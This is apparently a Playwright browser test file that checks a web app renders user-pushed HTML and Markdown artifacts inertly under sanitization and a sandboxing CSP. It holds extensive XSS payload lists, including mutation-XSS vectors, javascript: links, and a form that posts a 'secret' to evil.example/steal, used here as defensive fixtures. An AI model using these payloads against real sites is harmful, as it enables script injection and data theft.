/**
 * The artifact routes (`/a/<public_slug>`, `/artifacts/<id>`) as Chromium sees them. Hostile HTML and Markdown —
 * pushed through the page tools, or planted in the database behind the sanitizer's back — render inert: no dialog,
 * no script (sentinels: the title, a `data-pwned` attribute, `window.top.__pwned`), no request beyond the
 * artifact and its allowed images, an opaque origin (the CSP `sandbox`), and no javascript: navigation on click.
 * The CSP is then checked on its own: the real response headers with an unsanitized body full of script still run
 * nothing. Finally a Markdown page renders readably (stylesheet, GFM table, task list, code, a working wikilink),
 * and the 404 page is HTML titled "Not found".
 *
 * One Chromium for the file (support/Browser.ts: skipped with a warning when it is missing, failed when
 * DOCK_REQUIRE_CHROMIUM=1); each test has its own browser context.
 */
import { describe, expect, layer } from "@effect/vitest"
import { Effect, Layer } from "effect"
import { ARTIFACT_CSP } from "../src/http/ArtifactPage.ts"
import { BrowserLive, isBrowserReport, openPage, type RecordedPage, skipBrowserTests } from "./support/Browser.ts"
import { unique } from "./support/Http.ts"
import { type AnyClient } from "./support/McpClients.ts"
import { actor, call, createBucket, ok, pushedPart as push } from "./support/McpTools.ts"
import { TestServer, TestServerLive } from "./support/TestServer.ts"

/** A 1×1 PNG as a data: URL, the one kind of url() page CSS may keep. */
const PIXEL =
  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="

/** An image URL the CSP allows (img-src https:); the page's network answers it with a 1×1 PNG. */
const ALLOWED_IMAGE = "https://img.example.test/allowed.png"

/** What every vector tries when it runs: each effect is visible from outside the page. */
const PWN =
  "window.top.__pwned=1;document.title='pwned';document.documentElement.setAttribute('data-pwned','1');alert(1);console.log('pwned')"

/** HTML attack vectors, from the classics to mutation XSS; the links are labelled so a test can click them. */
const HOSTILE_HTML = `
<h1>Hostile HTML</h1>
<p>Plain text that must survive.</p>
<script>${PWN}</script>
<script src="https://evil.example/x.js"></script>
<img src="x" onerror="${PWN}">
<img src=x onerror=alert(1)//>
<img src="${ALLOWED_IMAGE}" alt="allowed image">
<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=" alt="data image">
<svg onload="${PWN}"><script>${PWN}</script><animate onbegin="${PWN}" attributeName="x" dur="1s"/></svg>
<p><a href="javascript:${PWN}">js link 1</a></p>
<p><a href="JaVaScRiPt:alert(1)">js link 2</a></p>
<p><a href="&#106;avascript:alert(1)">js link 3</a></p>
<p><a href="java&#9;script:alert(1)">js link 4</a></p>
<p><a href=" &#x20;javascript:alert(1)">js link 5</a></p>
<p><a href="data:text/html,<script>alert(1)</script>">js link 6</a></p>
<p><a href="vbscript:msgbox(1)">js link 7</a></p>
<p><a href="https://example.org/ok" onclick="${PWN}" onmouseover="${PWN}">safe link</a></p>
<iframe srcdoc="<script>parent.${PWN}</script>"></iframe>
<iframe src="javascript:${PWN}"></iframe>
<iframe src="https://evil.example/frame"></iframe>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<form action="https://evil.example/steal" method="post"><input name="q" value="secret"><button>form button</button></form>
<button formaction="javascript:alert(1)">formaction button</button>
<div style="background:url(javascript:alert(1))">styled javascript url</div>
<div style="background-image:url('https://evil.example/track.png')">styled tracking url</div>
<style>body { background: url(javascript:alert(1)) } @import url(https://evil.example/import.css);</style>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<details open ontoggle="${PWN}"><summary>toggle</summary>details</details>
<input autofocus onfocus="${PWN}">
<video><source onerror="${PWN}"></video>
<body onload="${PWN}">
<math><mtext><table><mglyph><style><img src=x onerror="${PWN}"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=&quot;${PWN}&quot;>"></p></noscript>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<template><img src=x onerror=alert(1)></template>
<p>The end.</p>
`

/** Markdown attack vectors: raw HTML, dangerous link and image schemes, reference definitions, wikilinks. */
const HOSTILE_MARKDOWN = `# Hostile Markdown

Plain text that must survive.

<script>${PWN}</script>

<img src="x" onerror="${PWN}">

<iframe srcdoc="<script>${PWN}</script>"></iframe>

[js link 1](javascript:${PWN.replaceAll("(", "%28").replaceAll(")", "%29")})

[js link 2](&#106;avascript:alert%281%29)

[js link 3][evil]

[evil]: javascript:alert(1)

<javascript:alert(1)>

![javascript image](javascript:alert(1))

![allowed image](${ALLOWED_IMAGE})

[[x" onmouseover="alert(1)]]

[[<img src=x onerror=alert(1)>]]

| vector | cell |
| ------ | ---- |
| <svg onload=alert(1)> | \`<script>alert(1)</script>\` |

\`\`\`html
<script>${PWN}</script>
\`\`\`

The end.
`

const publicDock = (client: AnyClient) =>
  createBucket(client, { title: "Browser", slug: `browser-${unique()}`, visibility: "public" })

/** Opens `url`; `settle` waits on after load, for a 0 s meta refresh, autofocus and late image errors. */
const go = (recorded: RecordedPage, url: string, settle = 300) =>
  Effect.promise(async () => {
    const response = await recorded.page.goto(url, { waitUntil: "load" })
    if (settle > 0) await recorded.page.waitForTimeout(settle)
    return response
  })

/** What the page's own scripts could have changed, read through Playwright (CDP evaluation bypasses the CSP). */
const sentinels = (recorded: RecordedPage) =>
  Effect.promise(() =>
    recorded.page.evaluate(() => ({
      title: document.title,
      origin: window.origin,
      pwned: (window.top as unknown as { __pwned?: unknown }).__pwned ?? null,
      marker: document.documentElement.getAttribute("data-pwned"),
      url: location.href
    }))
  )

/** Every attribute in the document that could run script or leave the page. */
const dangerousAttributes = (recorded: RecordedPage) =>
  Effect.promise(() =>
    recorded.page.evaluate(() => {
      const found: Array<string> = []
      for (const element of Array.from(document.querySelectorAll("*"))) {
        for (const attribute of Array.from(element.attributes)) {
          const name = attribute.name.toLowerCase()
          const value = attribute.value.replace(/[\u0000-\u0020\u007f-\u009f]/g, "").toLowerCase()
          if (
            name.startsWith("on") || name === "srcdoc" || name === "formaction" || name === "action" ||
            /^(?:javascript|vbscript|data:text)/.test(value) || (name === "style" && value.includes("url("))
          ) found.push(`<${element.tagName.toLowerCase()} ${name}="${attribute.value}">`)
        }
      }
      const tags = [
        "script",
        "iframe",
        "object",
        "embed",
        "svg",
        "math",
        "form",
        "meta[http-equiv]",
        "base",
        "link",
        "template"
      ]
      for (const tag of tags) {
        for (const element of Array.from(document.querySelectorAll(tag))) found.push(element.outerHTML.slice(0, 80))
      }
      return found
    })
  )

/**
 * The inert-artifact checks, after `go`: title kept, no sentinel set, opaque origin, no dialog, no output from
 * page scripts, and no request other than the artifact itself and same-origin or listed images. A sanitized page
 * may not even attempt another request; with `cspBlocked` attempts the CSP refused before they left are allowed.
 */
const expectInert = (recorded: RecordedPage, origin: string, url: string, title: string, cspBlocked = false) =>
  Effect.gen(function*() {
    expect(yield* sentinels(recorded)).toEqual({ title, origin: "null", pwned: null, marker: null, url })
    expect(recorded.dialogs).toEqual([])
    expect(recorded.pageErrors).toEqual([])
    expect(recorded.console.filter((message) => !isBrowserReport(message.text))).toEqual([])
    expect(recorded.console.filter((message) => message.text.includes("pwned"))).toEqual([])
    const unexpected = recorded.requests.filter((request) =>
      !(cspBlocked && !request.sent && request.failure === "csp") &&
      !(request.url === url && request.resourceType === "document") &&
      !(request.resourceType === "image" && (request.url.startsWith(`${origin}/`) || request.url === ALLOWED_IMAGE))
    )
    expect(unexpected).toEqual([])
  })

/** Clicks every `js link N` and the form buttons that survived; none may navigate, prompt or run anything. */
const clickEverything = (recorded: RecordedPage, url: string, title: string) =>
  Effect.gen(function*() {
    const main = recorded.page.locator("main")
    const labels = [
      "js link 1",
      "js link 2",
      "js link 3",
      "js link 4",
      "js link 5",
      "js link 6",
      "js link 7",
      "form button",
      "formaction button",
      "toggle"
    ]
    let clicked = 0
    for (const label of labels) {
      const target = main.getByText(label, { exact: true })
      if ((yield* Effect.promise(() => target.count())) === 0) continue
      yield* Effect.promise(() => target.first().click({ timeout: 2_000 }))
      clicked += 1
    }
    yield* Effect.promise(() => recorded.page.waitForTimeout(200))
    const after = yield* sentinels(recorded)
    expect(after).toMatchObject({ url, title, pwned: null, marker: null })
    expect(recorded.dialogs).toEqual([])
    expect(recorded.requests.filter((request) => request.resourceType === "document").map((request) => request.url))
      .toEqual([url])
    return clicked
  })

describe.skipIf(skipBrowserTests)("artifacts in Chromium", () => {
  layer(Layer.merge(TestServerLive, BrowserLive), { excludeTestServices: true, timeout: 120_000 })((it) => {
    it.scoped("hostile HTML and Markdown, pushed or planted in the database, render inert: no script, dialog or stray request", () =>
      Effect.gen(function*() {
        const server = yield* TestServer
        const owner = yield* actor("v2 modern")
        const dock = yield* publicDock(owner.client)
        const html = yield* push(owner.client, "push_web_page", {
          bucket: dock.id,
          page_title: "Hostile HTML",
          page_content: HOSTILE_HTML
        })
        const markdown = yield* push(owner.client, "push_markdown", { bucket: dock.id, page_content: HOSTILE_MARKDOWN })
        expect(markdown.title).toBe("Hostile Markdown")
        // The same vectors planted as stored content, as if the sanitizer had been bypassed on the way in: the
        // routes sanitize again when they render.
        const planted = yield* push(owner.client, "push_web_page", {
          bucket: dock.id,
          page_title: "Planted HTML",
          page_content: "<p>harmless</p>"
        })
        yield* server.sql`update parts set content = ${HOSTILE_HTML} where id = ${planted.id}`

        const cases = [
          { part: html, title: "Hostile HTML" },
          { part: markdown, title: "Hostile Markdown" },
          { part: planted, title: "Planted HTML" }
        ]
        for (const { part, title } of cases) {
          const recorded = yield* openPage({ origin: server.url, images: [ALLOWED_IMAGE] })
          const url = `${server.url}/a/${part.public_slug}`
          const response = (yield* go(recorded, url))!
          expect(response.status(), title).toBe(200)
          expect(response.headers()["content-security-policy"]).toBe(ARTIFACT_CSP)
          const text = yield* Effect.promise(() => recorded.page.locator("main").innerText())
          expect(text, title).toContain("Plain text that must survive.")
          yield* expectInert(recorded, server.url, url, title)
          // the allowed image is requested: the recording sees what the page loads
          expect(recorded.requests.filter((request) => request.url === ALLOWED_IMAGE), title).toMatchObject([
            { resourceType: "image", sent: true }
          ])
          expect(yield* dangerousAttributes(recorded), title).toEqual([])
          const clicked = yield* clickEverything(recorded, url, title)
          expect(clicked, title).toBeGreaterThan(0)
          yield* expectInert(recorded, server.url, url, title)
        }
      }))

    it.scoped("the CSP alone keeps script inert: the server's real headers over an unsanitized body", () =>
      Effect.gen(function*() {
        const server = yield* TestServer
        const owner = yield* actor("v2 modern")
        const dock = yield* publicDock(owner.client)
        const part = yield* push(owner.client, "push_web_page", {
          bucket: dock.id,
          page_title: "CSP check",
          page_content: "<p>Nothing to see.</p>"
        })
        const url = `${server.url}/a/${part.public_slug}`
        const recorded = yield* openPage({ origin: server.url, images: [ALLOWED_IMAGE] })
        const raw = [
          `<script>document.title='ran';${PWN}</script>`,
          `<script src="https://evil.example/x.js"></script>`,
          `<img src="nowhere.png" onerror="${PWN}">`,
          `<img src="${ALLOWED_IMAGE}" alt="allowed">`,
          `<svg onload="${PWN}"></svg>`,
          `<a href="javascript:${PWN}">raw js link</a>`,
          `<iframe srcdoc="<script>parent.${PWN}</script>"></iframe>`,
          `<iframe src="https://evil.example/frame"></iframe>`,
          `<link rel="stylesheet" href="https://evil.example/x.css">`,
          `<base href="https://evil.example/">`,
          `<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">`,
          `<form action="https://evil.example/steal" method="post"><input name="q" value="secret"><button>raw submit</button></form>`
        ].join("\n")
        const forwarded: Array<Record<string, string>> = []
        yield* Effect.promise(() =>
          recorded.page.route((target) => target.href === url, async (route) => {
            const response = await route.fetch()
            const headers = { ...response.headers() }
            delete headers["content-length"]
            delete headers["content-encoding"]
            forwarded.push(headers)
            const body = (await response.text()).replace("<main>", `<main>\n${raw}`)
            await route.fulfill({ status: response.status(), headers, body })
          })
        )

        const response = (yield* go(recorded, url))!
        expect(response.status()).toBe(200)
        expect(forwarded.length).toBe(1)
        expect(forwarded[0]!["content-security-policy"]).toBe(ARTIFACT_CSP)
        expect(forwarded[0]!["content-type"]).toBe("text/html; charset=utf-8")
        // the body really carries the script, and Chromium refused it because of the sandbox
        expect(yield* Effect.promise(() => recorded.page.content())).toContain("document.title='ran'")
        expect(recorded.console.some((message) => message.text.startsWith("Blocked script execution in"))).toBe(true)
        yield* expectInert(recorded, server.url, url, "CSP check", true)
        // nothing reached evil.example: the stylesheet was attempted and refused by the CSP, the script never
        // fetched (scripts are off in the sandbox), the frame refused; the allowed image did load
        expect(recorded.requests.filter((request) => request.url.startsWith("https://evil.example/") && request.sent))
          .toEqual([])
        expect(recorded.requests.filter((request) => request.url === "https://evil.example/x.css")).toMatchObject([
          { sent: false, failure: "csp" }
        ])
        expect(recorded.console.some((message) => message.text.startsWith("Framing 'https://evil.example/' violates")))
          .toBe(true)
        expect(recorded.requests.filter((request) => request.url === ALLOWED_IMAGE)).toMatchObject([{ sent: true }])
        // base-uri 'none': the relative image resolved against the artifact, not evil.example
        expect(recorded.requests.map((request) => request.url)).toContain(`${server.url}/a/nowhere.png`)

        // a javascript: link and a form submission do nothing
        yield* Effect.promise(() => recorded.page.getByText("raw js link").click({ timeout: 2_000 }))
        yield* Effect.promise(() => recorded.page.getByText("raw submit").click({ timeout: 2_000 }))
        yield* Effect.promise(() => recorded.page.waitForTimeout(200))
        expect(recorded.console.some((message) => message.text.startsWith("Blocked form submission"))).toBe(true)
        yield* expectInert(recorded, server.url, url, "CSP check", true)
      }))

    it.scoped("a Markdown page renders readably: stylesheet, GFM table, task list, code, and a wikilink that opens the other page", () =>
      Effect.gen(function*() {
        const server = yield* TestServer
        const owner = yield* actor("v2 modern")
        const dock = yield* publicDock(owner.client)
        const tides = yield* push(owner.client, "push_markdown", {
          bucket: dock.id,
          page_slug: "tide-tables",
          page_content: "# Tide tables\n\nHigh water comes twice a day, about 12 h 25 min apart.\n"
        })
        const guide = yield* push(owner.client, "push_markdown", {
          bucket: dock.id,
          page_slug: "harbour-guide",
          page_content: [
            "# Harbour guide",
            "",
            "Where the boats go, and when. Read [[Tide tables]] before you sail.",
            "",
            "## Today",
            "",
            "| Time  | Height | Note        |",
            "| ----- | ------ | ----------- |",
            "| 06:12 | 4.1 m  | high water  |",
            "| 12:31 | 0.8 m  | low water   |",
            "",
            "- [x] Check the forecast",
            "- [ ] Fuel the boat",
            "",
            "```ts",
            "const tide = (hour: number) => Math.sin((hour / 12.42) * 2 * Math.PI)",
            "```",
            ""
          ].join("\n")
        })
        expect(guide.title).toBe("Harbour guide")
        const recorded = yield* openPage({ origin: server.url })
        const url = `${server.url}/a/${guide.public_slug}`
        expect((yield* go(recorded, url))!.status()).toBe(200)
        const page = recorded.page

        const look = yield* Effect.promise(() =>
          page.evaluate(() => {
            const main = document.querySelector("main")!
            const style = getComputedStyle(main)
            const cells = (selector: string) =>
              Array.from(document.querySelectorAll(selector)).map((cell) => cell.textContent!.trim())
            return {
              title: document.title,
              maxWidth: style.maxWidth,
              fontFamily: getComputedStyle(document.body).fontFamily,
              h1: document.querySelector("main h1")?.textContent,
              h2: document.querySelector("main h2")?.textContent,
              headers: cells("main table th"),
              cells: cells("main table td"),
              tableBorder: getComputedStyle(document.querySelector("main table td")!).borderTopStyle,
              tasks: Array.from(document.querySelectorAll<HTMLInputElement>("main li input[type=checkbox]")).map((
                box
              ) => ({ checked: box.checked, disabled: box.disabled, text: box.parentElement!.textContent!.trim() })),
              taskBullet: getComputedStyle(document.querySelector("main li.task-list-item")!).listStyleType,
              code: document.querySelector("main pre code")?.textContent,
              codeFont: getComputedStyle(document.querySelector("main pre")!).fontFamily,
              wikilink: Array.from(document.querySelectorAll<HTMLAnchorElement>("main a")).map((a) => ({
                text: a.textContent,
                href: a.getAttribute("href"),
                className: a.className
              })),
              footer: document.querySelector("footer")?.textContent
            }
          })
        )
        expect(look).toMatchObject({
          title: "Harbour guide",
          h1: "Harbour guide",
          h2: "Today",
          headers: ["Time", "Height", "Note"],
          cells: ["06:12", "4.1 m", "high water", "12:31", "0.8 m", "low water"],
          tableBorder: "solid",
          tasks: [
            { checked: true, disabled: true, text: "Check the forecast" },
            { checked: false, disabled: true, text: "Fuel the boat" }
          ],
          taskBullet: "none",
          code: "const tide = (hour: number) => Math.sin((hour / 12.42) * 2 * Math.PI)\n",
          wikilink: [{ text: "Tide tables", href: `/a/${tides.public_slug}`, className: "wikilink" }]
        })
        // the stylesheet applies: a 46rem measure (16px root), system fonts, monospace code
        expect(look.maxWidth).not.toBe("none")
        expect(look.maxWidth).toBe("736px")
        expect(look.fontFamily).toContain("system-ui")
        expect(look.codeFont).toContain("monospace")
        expect(look.footer).toContain(`Version 1, written by`)
        // a clean artifact provokes no CSP report at all: the server's own inline stylesheet is allowed
        expect(recorded.console).toEqual([])
        yield* Effect.promise(() => page.screenshot({ path: "/tmp/artifact.png", fullPage: true }))

        // the wikilink opens the other artifact
        yield* Effect.promise(() =>
          Promise.all([page.waitForURL(`${server.url}/a/${tides.public_slug}`), page.getByText("Tide tables").click()])
        )
        expect(page.url()).toBe(`${server.url}/a/${tides.public_slug}`)
        expect(yield* Effect.promise(() => page.title())).toBe("Tide tables")
        expect(yield* Effect.promise(() => page.locator("main h1").textContent())).toBe("Tide tables")
        expect(recorded.dialogs).toEqual([])
        expect(recorded.console).toEqual([])

        // the same artifact by id
        expect((yield* go(recorded, `${server.url}/artifacts/${guide.id}`, 0))!.status()).toBe(200)
        expect(yield* Effect.promise(() => page.title())).toBe("Harbour guide")
        expect(yield* Effect.promise(() => page.locator("main table td").first().textContent())).toBe("06:12")
      }))

    it.scoped("an HTML page renders with its own sanitized CSS, its in-page anchors and wikilinks work, and nothing else loads", () =>
      Effect.gen(function*() {
        const server = yield* TestServer
        const owner = yield* actor("v2 modern")
        const dock = yield* publicDock(owner.client)
        const tides = yield* push(owner.client, "push_markdown", {
          bucket: dock.id,
          page_slug: "tide-tables",
          page_content: "# Tide tables\n\nTwice a day."
        })
        const styled = yield* push(owner.client, "push_web_page", {
          bucket: dock.id,
          page_content: [
            `<html><head><title>Styled report</title><style>`,
            `h1 { color: rgb(180, 20, 20); letter-spacing: 2px }`,
            `.card { border: 3px solid rgb(0, 90, 160); padding: 12px; background: url(https://evil.example/t.png) }`,
            `.dot { width: 4px; height: 4px; background: url("${PIXEL}") }`,
            `@media (min-width: 1px) { p.wide { margin-left: 24px } }`,
            `</style></head><body>`,
            `<h1>Styled report</h1><p class="wide" style="color: rgb(0, 128, 0)">Green and indented.</p>`,
            `<div class="card"><p>In a card. See [[Tide tables]].</p><span class="dot"></span></div>`,
            `<p><a href="#far">Jump to the end</a></p><div style="height: 3000px"></div>`,
            `<h2 id="far">The end</h2></body></html>`
          ].join("")
        })
        expect(styled.title).toBe("Styled report")
        const recorded = yield* openPage({ origin: server.url })
        const url = `${server.url}/a/${styled.public_slug}`
        expect((yield* go(recorded, url))!.status()).toBe(200)
        const page = recorded.page
        const look = yield* Effect.promise(() =>
          page.evaluate(() => {
            const style = (selector: string) => getComputedStyle(document.querySelector(selector)!)
            return {
              h1: style("main h1").color,
              spacing: style("main h1").letterSpacing,
              wide: style("main p.wide").color,
              indent: style("main p.wide").marginLeft,
              card: style("main .card").borderTopColor,
              cardWidth: style("main .card").borderTopWidth,
              cardBackground: style("main .card").backgroundImage,
              dot: style("main .dot").backgroundImage.slice(0, 26),
              wikilink: document.querySelector("main .card a")?.getAttribute("href")
            }
          })
        )
        expect(look).toEqual({
          h1: "rgb(180, 20, 20)",
          spacing: "2px",
          wide: "rgb(0, 128, 0)",
          indent: "24px",
          card: "rgb(0, 90, 160)",
          cardWidth: "3px",
          cardBackground: "none",
          dot: `url("data:image/png;base64`,
          wikilink: `/a/${tides.public_slug}`
        })
        // no request but the page itself (the data: image is no request); no CSP report: inline styles are allowed
        expect(recorded.requests.map((request) => request.url)).toEqual([url])
        expect(recorded.console).toEqual([])
        yield* Effect.promise(() => page.screenshot({ path: "/tmp/styled-page.png" }))

        // the in-page anchor scrolls to its heading, without leaving the page
        const before = yield* Effect.promise(() => page.evaluate(() => window.scrollY))
        yield* Effect.promise(() => page.getByText("Jump to the end").click())
        yield* Effect.promise(() => page.waitForFunction(() => window.scrollY > 1000))
        expect(before).toBe(0)
        expect(page.url()).toBe(`${url}#user-content-far`)

        // and the wikilink opens the other page
        yield* Effect.promise(() =>
          Promise.all([page.waitForURL(`${server.url}/a/${tides.public_slug}`), page.getByText("Tide tables").click()])
        )
        expect(yield* Effect.promise(() => page.title())).toBe("Tide tables")
      }))

    it.scoped("the Micro DB page shows its live tables as readable HTML tables", () =>
      Effect.gen(function*() {
        const server = yield* TestServer
        const owner = yield* actor("v2 modern")
        const dock = yield* publicDock(owner.client)
        const shell = ok(
          yield* call(owner.client, "push_micro_db", {
            bucket: dock.id,
            title: "Harbour data",
            summary: "Boats and berths in the harbour, kept by the harbour agent."
          })
        ).part
        ok(
          yield* call(owner.client, "create_micro_db_table", {
            bucket: dock.id,
            name: "Boats",
            description: "Who is moored where.",
            columns: [
              { name: "Name", type: "text" },
              { name: "Length (m)", type: "number" },
              { name: "Berth", type: "text" },
              { name: "Arrived", type: "date" }
            ]
          })
        )
        ok(
          yield* call(owner.client, "insert_micro_db_rows", {
            bucket: dock.id,
            table: "boats",
            rows: [
              { name: "Selkie", length_m: 9.5, berth: "A-3", arrived: "2026-11-02" },
              { name: "Tern", length_m: 7.2, berth: "B-1", arrived: "2026-11-10" },
              { name: "<b>Not bold</b>", length_m: 12, berth: "C-7", arrived: "2026-11-21" }
            ]
          })
        )
        ok(
          yield* call(owner.client, "create_micro_db_table", {
            bucket: dock.id,
            name: "Berths",
            columns: [{ name: "Code", type: "text" }, { name: "Free", type: "boolean" }]
          })
        )
        ok(
          yield* call(owner.client, "insert_micro_db_rows", {
            bucket: dock.id,
            table: "berths",
            rows: [{ code: "A-3", free: false }, { code: "D-1", free: true }]
          })
        )
        const recorded = yield* openPage({ origin: server.url })
        const url = `${server.url}/a/${shell.public_slug}`
        expect((yield* go(recorded, url))!.status()).toBe(200)
        const page = recorded.page
        const look = yield* Effect.promise(() =>
          page.evaluate(() => ({
            h2: Array.from(document.querySelectorAll("main h2")).map((h) => h.textContent),
            headers: Array.from(document.querySelectorAll("main table")).map((table) =>
              Array.from(table.querySelectorAll("th")).map((th) => th.textContent)
            ),
            first: Array.from(document.querySelectorAll("main table")).map((table) =>
              Array.from(table.querySelectorAll("tbody tr:first-child td")).map((td) => td.textContent)
            ),
            bold: document.querySelectorAll("main b").length,
            border: getComputedStyle(document.querySelector("main td")!).borderTopStyle
          }))
        )
        expect(look).toEqual({
          h2: ["Boats", "Berths"],
          headers: [["Name", "Length (m)", "Berth", "Arrived"], ["Code", "Free"]],
          first: [["Selkie", "9.5", "A-3", "2026-11-02"], ["A-3", "false"]],
          bold: 0,
          border: "solid"
        })
        expect(yield* Effect.promise(() => page.locator("main").innerText())).toContain("<b>Not bold</b>")
        expect(recorded.console).toEqual([])
        yield* Effect.promise(() => page.screenshot({ path: "/tmp/micro-db-page.png", fullPage: true }))
      }))

    it.scoped("the 404 page is HTML titled \"Not found\", under the same CSP, for unknown and private artifacts", () =>
      Effect.gen(function*() {
        const server = yield* TestServer
        const owner = yield* actor("v2 modern")
        const privateDock = yield* createBucket(owner.client, { title: "Private", slug: `private-${unique()}` })
        const secret = yield* push(owner.client, "push_web_page", {
          bucket: privateDock.id,
          page_title: "Secret",
          page_content: "<p>not for the public</p>"
        })
        const recorded = yield* openPage({ origin: server.url })
        for (
          const path of [
            `/a/no-such-artifact-${unique()}`,
            `/artifacts/${crypto.randomUUID()}`,
            "/artifacts/not-a-uuid",
            `/a/${secret.public_slug}`,
            `/artifacts/${secret.id}`
          ]
        ) {
          const response = (yield* go(recorded, `${server.url}${path}`, 0))!
          expect(response.status(), path).toBe(404)
          expect(response.headers()["content-type"], path).toBe("text/html; charset=utf-8")
          expect(response.headers()["content-security-policy"], path).toBe(ARTIFACT_CSP)
          expect(yield* Effect.promise(() => recorded.page.title()), path).toBe("Not found")
          expect(yield* Effect.promise(() => recorded.page.locator("main h1").textContent()), path).toBe("Not found")
          expect(yield* Effect.promise(() => recorded.page.locator("body").innerText()), path).not.toContain(
            "not for the public"
          )
          expect(yield* Effect.promise(() => recorded.page.evaluate(() => window.origin)), path).toBe("null")
        }
        expect(recorded.dialogs).toEqual([])
      }))
  })
})
